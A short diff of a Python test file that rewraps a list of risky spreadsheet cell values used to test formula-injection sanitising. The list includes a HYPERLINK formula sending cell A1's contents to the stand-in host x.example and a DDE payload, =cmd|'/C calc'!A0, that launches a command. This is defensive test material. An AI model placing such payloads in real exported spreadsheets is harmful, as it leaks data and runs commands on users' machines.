@@ -16,7 +16,8 @@ from empathy_score.transcripts.spreadsheets import harmless, restored
 from empathy_score.writing import write_table
 
 RISKY = ("=1+1", '=HYPERLINK("http://x.example?a="&A1,"so sorry")', "+1 (555) 010-0199",
-         "-so sorry", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "'=1+1", "''=1+1", "--",
+         "-so sorry", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "'=1+1",
+         "''=1+1", "--",
          "-1+1", "=cmd|'/C calc'!A0", "+", "-5 is wrong")  # fmt: skip
 PLAIN = ("so sorry", "'so sorry'", "-1.5", "+44", "1e5", "-2E-3", "", "5 = 5", "a\t=b", "'", "''")
 
